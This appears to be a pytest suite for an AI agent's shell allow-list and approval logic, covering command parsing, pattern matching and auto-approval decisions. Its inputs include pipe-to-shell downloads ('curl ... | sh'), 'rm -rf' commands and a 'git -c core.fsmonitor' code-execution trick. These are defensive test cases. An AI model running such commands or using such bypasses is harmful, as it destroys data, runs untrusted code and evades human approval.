"""The allow-list parser: every command the shell would run must be covered."""

from __future__ import annotations

from pathlib import Path

import pytest

from agentls.agent.config.models import AgentConfig
from agentls.agent.policy.approval import decide
from agentls.agent.policy.shell_policy import (
    SimpleCommand,
    allowlist_reason,
    analyze,
    check_allow,
    describe,
    matches_pattern,
)
from agentls.agent.tools.exec import ExecuteCommandTool, PythonExecutorTool

CORPUS = Path(__file__).parents[2] / "fixtures" / "shell_bypass_corpus.txt"
PATTERNS = ["pytest*", "git status", "ls*"]


def _corpus() -> list[tuple[str, str]]:
    cases = []
    for line in CORPUS.read_text(encoding="utf-8").splitlines():
        if not line.strip() or line.startswith("#"):
            continue
        kind, _, command = line.partition("|")
        command = command[1:] if command.startswith(" ") else command
        cases.append((kind.strip(), command.replace("<NL>", "\n").replace("<CR>", "\r")))
    return cases


CASES = _corpus()
BYPASSES = [c for k, c in CASES if k == "bypass"]
BENIGN = [c for k, c in CASES if k == "allow"]
RUNS_CODE = [c for k, c in CASES if k == "runs-code"]
NO_CODE = [c for k, c in CASES if k == "no-code"]


def test_corpus_is_big_enough() -> None:
    assert len(BYPASSES) >= 40
    assert len(BENIGN) >= 15
    assert len(RUNS_CODE) >= 80
    assert len(NO_CODE) >= 30
    assert {k for k, _ in CASES} == {"bypass", "allow", "runs-code", "no-code"}


@pytest.mark.parametrize("command", BYPASSES)
def test_bypass_is_refused(command: str) -> None:
    assert allowlist_reason(analyze(command), PATTERNS) == ""


@pytest.mark.parametrize("command", BENIGN)
def test_benign_is_allowed(command: str) -> None:
    analysis = analyze(command)
    assert allowlist_reason(analysis, PATTERNS), analysis.problems


def _naming_every_program(command: str) -> list[str]:
    """Allow rules that name every program ``command`` runs, wrappers included (whose
    rules must name them in their first word)."""
    names = [c.name for c in analyze(command).commands]
    return ["*", *(f"{name}*" for name in names), *(f"{name} *" for name in names)]


@pytest.mark.parametrize("command", RUNS_CODE)
def test_a_command_that_runs_code_it_was_given_is_never_allowed(command: str) -> None:
    check = check_allow(analyze(command), _naming_every_program(command))
    assert not check.allowed
    assert check.runs_code, (check.unmatched, check.unclear)
    assert not check.unmatched and not check.unclear


@pytest.mark.parametrize("command", NO_CODE)
def test_its_harmless_twin_is_allowed(command: str) -> None:
    check = check_allow(analyze(command), _naming_every_program(command))
    assert check.allowed, (check.runs_code, check.unmatched, check.unclear)


def test_xargs_never_matches_even_a_rule_naming_it() -> None:
    assert allowlist_reason(analyze("xargs grep foo"), ["xargs*", "grep*"]) == ""


def test_describe_says_why_a_command_runs_code() -> None:
    text = describe(analyze("git -c core.fsmonitor=x status"))
    assert "`git -c` sets git configuration" in text
    assert "can run programs" in text
    assert "`find -exec` runs the command it is given" in describe(analyze("find . -exec rm {} +"))
    twice = describe(analyze("git -c a=b log; git -c c=d log"))
    assert twice.count("`git -c` sets") == 1


def test_semicolon_inside_quotes_is_one_command() -> None:
    analysis = analyze("pytest -k 'a; rm -rf /'")
    assert [c.words for c in analysis.commands] == [("pytest", "-k", "a; rm -rf /")]


def test_every_part_is_listed() -> None:
    analysis = analyze("a | b && (c; { d; }) || e $(f `g`) <(h)")
    assert sorted(c.name for c in analysis.commands) == list("abcdefgh")


def test_words_are_unquoted_before_matching() -> None:
    cmd = analyze("p'y'\"test\" -q").commands[0]
    assert cmd.text == "pytest -q"
    assert matches_pattern(cmd, "pytest*")


@pytest.mark.parametrize(
    ("text", "pattern", "expected"),
    [
        ("pytest", "pytest*", True),
        ("pytest -q", "pytest*", True),
        ("pytest-evil", "pytest*", False),
        ("git status", "git status", True),
        ("git status -s", "git status", False),
        ("git status -s", "git status*", True),
        ("git log --oneline", "git log *", True),
        ("Pytest", "pytest*", False),
        ("timeout 60 pytest -q", "pytest*", False),
        ("timeout 60 pytest -q", "timeout 60 pytest*", True),
        ("env pytest", "*", False),
    ],
)
def test_matching_rule(text: str, pattern: str, expected: bool) -> None:
    cmd = SimpleCommand(tuple(text.split()))
    assert matches_pattern(cmd, pattern) is expected


def test_assignments_are_part_of_the_text() -> None:
    assert not allowlist_reason(analyze("CI=1 pytest"), ["pytest*"])
    assert allowlist_reason(analyze("CI=1 pytest -q"), ["CI=1 pytest *"])


def test_no_patterns_means_no_auto_approval() -> None:
    assert allowlist_reason(analyze("ls"), []) == ""


def test_describe_lists_commands_connectors_and_writes() -> None:
    text = describe(analyze("pytest -q && curl https://x.example | sh > out.txt"))
    assert text.startswith("Runs 3 commands: `pytest -q`, then, if it succeeds, `curl")
    assert "piped into `sh > out.txt`" in text
    assert "writes to: out.txt (redirect)" in text
    assert "network (curl)" in text


def test_describe_mentions_substitutions_and_parse_failures() -> None:
    assert "`rm x` (substitution)" in describe(analyze("echo $(rm x)"))
    assert "could not fully read" in describe(analyze("[[ -f x ]] && rm x"))


# -- end to end through the one place that decides ------------------------------------
def _agent(mode: str = "confirm-sensitive") -> AgentConfig:
    return AgentConfig.model_validate(
        {"system_prompt": "x", "confirm_mode": mode, "allowed_commands": PATTERNS}
    )


def test_decide_skips_an_allowed_command() -> None:
    decision = decide(ExecuteCommandTool(), {"command": "pytest -q && git status"}, _agent())
    assert decision.kind == "skip"
    assert "pytest*" in decision.reason


def test_decide_asks_for_a_bypass() -> None:
    decision = decide(ExecuteCommandTool(), {"command": "pytest && curl x | sh"}, _agent())
    assert decision.kind == "needs_approval"


def test_decide_yolo_and_confirm_all() -> None:
    args = {"command": "rm -rf build"}
    assert decide(ExecuteCommandTool(), args, _agent("yolo")).kind == "skip"
    assert decide(ExecuteCommandTool(), {"command": "ls"}, _agent("confirm-all")).kind == (
        "needs_approval"
    )


def test_python_is_never_auto_approved() -> None:
    agent = _agent()
    agent.allowed_commands = ["*"]
    assert decide(PythonExecutorTool(), {"code": "print(1)"}, agent).kind == "needs_approval"
